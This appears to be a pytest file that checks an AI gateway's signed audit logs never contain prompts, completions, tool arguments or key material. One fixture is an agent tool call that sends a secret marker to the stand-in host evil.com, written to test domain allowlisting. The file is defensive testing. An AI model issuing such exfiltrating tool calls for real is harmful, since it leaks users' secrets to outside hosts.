"""The audit log holds decisions and metadata only: run every control, log every decision, then
scan the raw files for prompts, completions, tool arguments and key material."""

from __future__ import annotations

import os
from pathlib import Path

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from policy import (
    AdmissionFacts,
    PolicySet,
    ReleaseFacts,
    ReleasePolicy,
    evaluate_admission,
    evaluate_release,
)
from policy.agents import SessionState, ToolCall, check_tool_calls
from policy.audit import AuditLog, verify_dir
from policy.data import check_content

PROMPT = "PROMPT-MARKER-7f3a tell me about project nightingale, my card is 4111 1111 1111 1111"
COMPLETION = "COMPLETION-MARKER-91bc call me at +1 415-555-2671"
TOOL_SECRET = "TOOLARG-MARKER-55de"
DATA_KEY = os.urandom(32)

PS = PolicySet.from_dict({
    "policy_id": "acme-all", "version": 1, "tenant": "acme",
    "admission": {"allowed_models": ["llama"], "max_output_tokens": 100},
    "data": {"pii_input": {"CREDIT_CARD": "block"}, "pii_output": {"PHONE_NUMBER": "redact"},
             "blocked_patterns": {"codename": "(?i)nightingale"}},
    "agents": {"a1": {"max_calls_per_request": 2, "max_calls_per_session": 2,
                      "tools": {"fetch": {"url_args": ["url"], "allowed_domains": ["example.com"]}}}},
})


def test_log_never_contains_content_or_keys(tmp_path: Path) -> None:
    signer = Ed25519PrivateKey.generate()
    components = ("gateway", "worker", "key_broker")
    logs = {c: AuditLog(tmp_path / f"{c}.audit.jsonl", signer, c) for c in components}
    d = evaluate_admission(PS, AdmissionFacts("acme", "k1", "llama", len(PROMPT), 50))
    logs["gateway"].append_decision(tenant="acme", action="admission", decision=d,
                                    metadata={"api_key_id": "k1", "model": "llama", "context_tokens": 20})
    for text, direction in ((PROMPT, "input"), (COMPLETION, "output")):
        v = check_content(PS, "k1", "llama", text, direction=direction)
        logs["worker"].append_decision(tenant="acme", action=f"content.{direction}", decision=v.decision,
                                       metadata={f"pii_{k.lower()}": n for k, n in v.findings.items()})
    calls = [ToolCall("fetch", {"url": f"https://evil.com/?q={TOOL_SECRET}"})]
    for verdict in check_tool_calls(PS, "a1", SessionState("s"), calls).verdicts:
        logs["worker"].append_decision(tenant="acme", action="tool_call", decision=verdict.decision,
                                       metadata={"tool": verdict.call.name, "outcome": verdict.outcome})
    rp = ReleasePolicy(policy_id="rel", version=1, tenant="acme", model="llama",
                       allowed_tee=frozenset({"snp"}), allowed_measurements=frozenset({"aa" * 48}))
    facts = ReleaseFacts("acme", "llama", "v1", "snp", "aa" * 48, False, {}, True, False, None)
    rd = evaluate_release(rp, facts)
    logs["key_broker"].append_decision(tenant="acme", action="key_release", decision=rd,
                                       metadata={"model": "llama", "model_version": "v1"})
    for log in logs.values():
        log.close()
    keys = {c: signer.public_key() for c in logs}
    assert sum(r.entries for r in verify_dir(tmp_path, keys)) == 5

    raw = b"".join(p.read_bytes() for p in sorted(tmp_path.iterdir()))
    signer_raw = signer.private_bytes(serialization.Encoding.Raw, serialization.PrivateFormat.Raw,
                                      serialization.NoEncryption())
    forbidden = [b"PROMPT-MARKER", b"COMPLETION-MARKER", TOOL_SECRET.encode(), b"nightingale",
                 b"4111 1111", b"415-555", b"evil.com", DATA_KEY.hex().encode(), signer_raw.hex().encode(),
                 b"PRIVATE KEY"]
    for needle in forbidden:
        assert needle not in raw, needle
    assert DATA_KEY not in raw and signer_raw not in raw
